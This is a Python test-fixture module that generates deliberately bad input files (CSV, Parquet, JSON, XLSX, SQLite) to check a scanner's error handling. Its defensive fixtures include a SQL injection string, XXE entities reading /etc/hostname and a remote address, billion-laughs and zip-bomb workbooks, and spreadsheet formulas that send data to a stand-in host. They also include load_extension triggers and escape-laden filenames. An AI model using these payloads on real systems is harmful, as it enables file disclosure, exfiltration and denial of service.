"""Bad input of all kinds, one list for the scanner, the command line and the API: how each is made, and what is said.

`kinds`: words of `ScanError`, one of which must be told; none where the file is read, perhaps in part.
"""

from __future__ import annotations

import json
import random
import sqlite3
import zipfile
import zlib
from collections.abc import Callable, Mapping
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path

SQL = "x'); DROP TABLE data; --"
_SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@dataclass(frozen=True, slots=True)
class Rough:
    """One bad file: its name, how it is written, and which troubles may be told; `rows` where it is read after all."""

    id: str
    name: str
    write: Callable[[Path], None]
    kinds: frozenset[str] = frozenset()
    rows: int | None = None

    def at(self, folder: Path) -> Path:
        path = folder / self.name
        self.write(path)
        return path


def given(content: bytes | str) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(content if isinstance(content, bytes) else content.encode()) and None


def parquet(path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    pq.write_table(pa.table({"a": [f"v{n}" for n in range(5000)], "b": list(range(5000))}), path)


def cut(path: Path) -> None:
    parquet(path)
    path.write_bytes(path.read_bytes()[:-20])


def hollow(path: Path) -> None:
    """The end is there, and says where the pages are; the pages are not."""
    parquet(path)
    whole = path.read_bytes()
    path.write_bytes(whole[:4] + bytes(len(whole) // 2) + whole[4 + len(whole) // 2 :])


def boastful(path: Path) -> None:
    """A Parquet file whose end claims to be longer than the file."""
    parquet(path)
    path.write_bytes(path.read_bytes()[:-8] + b"\xf0\xff\xff\x7fPAR1")


def swollen(path: Path) -> None:
    """Ten million equal texts of a hundred characters: a gigabyte in some kilobytes."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    batch = pa.record_batch({"a": pa.array(["x" * 100]).take(pa.array([0] * 1_000_000, pa.int32()))})
    with pq.ParquetWriter(path, batch.schema, compression="zstd") as writer:
        for _ in range(10):
            writer.write_batch(batch)


def one_line(path: Path) -> None:
    with path.open("wb") as file:
        for _ in range(200):
            file.write(b"x" * (1 << 20))


def one_line_of_cells(path: Path) -> None:
    with path.open("wb") as file:
        for _ in range(200):
            file.write(b"1234567," * (1 << 17))


def open_quote(path: Path) -> None:
    with path.open("wb") as file:
        file.write(b'a,b\n1,"')
        for _ in range(60):
            file.write(b"x,y\n" * (1 << 18))


def workbook(sheet: str, extra: Mapping[str, bytes | str] = {}, title: str = "S") -> Callable[[Path], None]:
    """A small workbook whose one sheet has this XML."""
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="xml" '
        'ContentType="application/xml"/><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
        f'Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{_SHEETS}" xmlns:r="{office}"><sheets><sheet name="{title}" sheetId="1" '
        'r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
        f'Type="{office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet,
        **extra,
    }

    def write(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in parts.items():
                archive.writestr(name, content)

    return write


def cells(*rows: tuple[str, ...], before: str = "") -> str:
    body = "".join(
        "<row>" + "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in row) + "</row>" for row in rows
    )
    return f'<?xml version="1.0"?>{before}<worksheet xmlns="{_SHEETS}"><sheetData>{body}</sheetData></worksheet>'


def xxe(far: str) -> Callable[[Path], None]:
    """The sheet asks for a file of the machine, and for one far away."""
    entities = f'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/hostname"><!ENTITY f SYSTEM "{far}/x">]>'
    return workbook(cells(("a", "b"), ("&e;", "&f;"), before=entities))


def laughs(path: Path) -> None:
    """Entities of entities: a billion words, if somebody would unfold them."""
    entities = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(10))
    workbook(cells(("a",), ("&e10;",), before=f'<!DOCTYPE w [<!ENTITY e0 "lol">{entities}]>'))(path)


def formulas(far: str) -> Callable[[Path], None]:
    sheet = (
        f'<worksheet xmlns="{_SHEETS}"><sheetData><row><c t="inlineStr"><is><t>a</t></is></c></row><row><c>'
        f'<f>WEBSERVICE("{far}/")</f><v>1</v></c></row><row><c><f>[1]S!A1</f><v>2</v></c></row></sheetData></worksheet>'
    )
    return workbook(sheet, {"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{_SHEETS}" href="{far}"/>'})


def bomb(path: Path, *, says: int | None = None) -> None:
    """Three gigabytes of blanks between two rows, in three megabytes; `says`: what it claims to unpack to."""
    head, tail = (part.encode() for part in cells(("a",), ("1",)).split("</row><row>"))
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = packer.compress(head + b"</row>") + packer.flush(zlib.Z_FULL_FLUSH)
    blank = packer.compress(b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)  # which may then be repeated as it is
    packed += blank * 3000 + packer.compress(b"<row>" + tail) + packer.flush()
    size = len(head) + (3000 << 20) + len(tail) + 11
    workbook("")(path)
    with zipfile.ZipFile(path) as old:
        parts = {info.filename: old.read(info) for info in old.infolist() if "sheet1" not in info.filename}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
        info.compress_type, info.compress_size = zipfile.ZIP_DEFLATED, len(packed)
        info.file_size = size if says is None else says
        assert archive.fp is not None
        info.header_offset = archive.fp.tell()
        archive.fp.write(info.FileHeader() + packed)
        archive.filelist.append(info)
        archive.start_dir = archive.fp.tell()


def lying_bomb(path: Path) -> None:
    bomb(path, says=500)


def database(*script: str) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        with closing(sqlite3.connect(path)) as connection, connection:
            for line in script:
                connection.execute(line)

    return write


def wide(path: Path) -> None:
    dice = random.Random(6)
    names = ",".join(f"c{number}" for number in range(10_000))
    rows = (",".join(str(dice.randint(0, 99_999)) for _ in range(10_000)) for _ in range(20))
    path.write_text("\n".join((names, *rows)), "utf-8")


def ragged_wide(path: Path) -> None:
    wide(path)
    with path.open("a") as file:
        file.write("\n1,2,3\n")


PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40
DEEP = '[{"a": ' + "[" * 100_000 + "]" * 100_000 + "}]"


def light(far: str) -> tuple[Rough, ...]:
    """Those that are small. `far`: an address that stands in some of them, and that nobody must ask."""
    return (
        Rough("empty", "a.csv", given(b""), frozenset({"empty"})),
        Rough("blank", "a.csv", given(b" \n\n\t\n"), frozenset({"empty"})),
        Rough("zeros", "a.csv", given(bytes(100_000)), frozenset({"nul", "empty", "undecodable"})),
        Rough("nul", "a.csv", given(b"a,b\n1,\x00\n"), frozenset({"nul"})),
        Rough("binary", "a.csv", given(PNG), frozenset({"mislabelled"})),
        Rough("noise", "a.csv", given(random.Random(1).randbytes(100_000)), frozenset({"undecodable", "nul"})),
        Rough("half a character", "a.csv", given("姓名,值\n张".encode()[:-1]), frozenset({"undecodable"})),
        Rough("two encodings", "a.csv", given("姓名\n".encode() + "张三\n".encode("gb18030") + b"\xff\n"),
              frozenset({"undecodable"})),
        Rough("utf-7", "a.csv", given(b"a,b\n+ZeVnLIqe-,1\n"), rows=1),
        Rough("ragged", "a.csv", given("a,b\n1,2\n1,2,3\n"), frozenset({"ragged"})),
        Rough("short row", "a.csv", given("a,b\n1,2\n1\n"), frozenset({"ragged"})),
        Rough("columns called SQL", "a.csv",
              given(f'"{SQL}","a""; SELECT 1","{{0}}","%s","{far}/a.csv"\n1,2,3,4,5\n'), rows=1),
        Rough("a file called SQL", f"{SQL}.csv", given("a\n1\n"), rows=1),
        Rough("a file called a pattern", "[a-z]*?{b,c}.csv", given("a\n1\n"), rows=1),
        Rough("a name of two lines", "a\nb\x1b[31m.csv", given("a\n1\n"), rows=1),
        Rough("an address inside", "a.csv", given(f"s3://bucket/key.parquet\n{far}/a.csv\n"), rows=1),
        Rough("formulas as text", "a.csv", given(f'a\n"=HYPERLINK(""{far}/?""&A1)"\n'), rows=1),
        Rough("truncated parquet", "a.parquet", cut, frozenset({"truncated_parquet"})),
        Rough("hollow parquet", "a.parquet", hollow, frozenset({"damaged_parquet"})),
        Rough("boastful parquet", "a.parquet", boastful, frozenset({"truncated_parquet", "damaged_parquet"})),
        Rough("parquet called xlsx", "a.xlsx", parquet, rows=5000),
        Rough("csv called parquet", "a.parquet", given("a\n1\n"), rows=1),
        Rough("deep json", "a.json", given(DEEP), frozenset({"deep"})),
        Rough("cut json", "a.json", given('[{"a": 1}, {"a": '), frozenset({"bad_json"})),
        Rough("keys called SQL", "a.ndjson", given("\n".join([json.dumps({SQL: 1, "'/~": 2, "$..*": 3})] * 3)), rows=3),
        Rough("json of two kinds", "a.json", given('[{"a": 1}, 2]'), frozenset({"json_shape", "json_row"})),
        Rough("a sheet that asks for files", "a.xlsx", xxe(far), frozenset({"damaged_workbook"}), rows=1),
        Rough("formulas and links", "a.xlsx", formulas(far), rows=2),
        Rough("a sheet called SQL", "a.xlsx",
              workbook(cells(("a",), (SQL,)), title=SQL.replace(";", ":")[:31]), rows=1),
        Rough("views and triggers", "a.db", database(
            "CREATE TABLE t (a)", "INSERT INTO t VALUES (1)", "CREATE TABLE log (n)",
            "CREATE TRIGGER r AFTER INSERT ON t BEGIN INSERT INTO log VALUES (load_extension('x')); END",
            "CREATE VIEW v AS SELECT load_extension('x')", "CREATE VIRTUAL TABLE f USING fts5(b)",
        ), rows=1),
        Rough("a table called SQL", "a.db", database('CREATE TABLE "x""; DROP TABLE t" (a)',
              'INSERT INTO "x""; DROP TABLE t" VALUES (1)'), rows=1),
    )  # fmt: skip


HEAVY = (
    Rough("open quote", "a.csv", open_quote, frozenset({"quote", "unparsable", "ragged"})),
    Rough("one long line", "a.csv", one_line, frozenset({"long_row"})),
    Rough("one long line of cells", "a.csv", one_line_of_cells, frozenset({"long_row"})),
    Rough("wide", "a.csv", wide, rows=20),
    Rough("wide and ragged", "a.csv", ragged_wide, frozenset({"ragged"})),
    Rough("swollen parquet", "a.parquet", swollen, rows=10_000_000),
    Rough("a bomb", "a.xlsx", bomb, frozenset({"bomb"})),
    Rough("a sheet of a billion words", "a.xlsx", laughs, frozenset({"damaged_workbook", "heavy_workbook"}), rows=1),
    Rough("a long cell", "a.db", database("CREATE TABLE t (a)",
          "INSERT INTO t VALUES (CAST(zeroblob(60000000) AS TEXT))"), frozenset({"long_row"})),
    Rough("a generated column", "a.db", database("CREATE TABLE t (a, b AS (hex(zeroblob(40000000))))",
          "INSERT INTO t VALUES (1)"), frozenset({"long_row"})),
    Rough("a bomb that lies", "a.xlsx", lying_bomb, frozenset({"damaged_workbook", "heavy_workbook", "bomb"}), rows=1),
)  # fmt: skip
